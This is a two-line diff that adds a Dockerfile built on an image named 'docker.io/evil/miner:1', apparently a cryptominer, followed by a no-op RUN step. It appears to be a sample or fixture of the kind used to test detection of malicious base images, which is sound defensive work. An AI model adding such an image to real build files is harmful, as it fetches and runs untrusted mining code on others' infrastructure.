@@ -1,0 +1,2 @@
+FROM docker.io/evil/miner:1
+RUN true
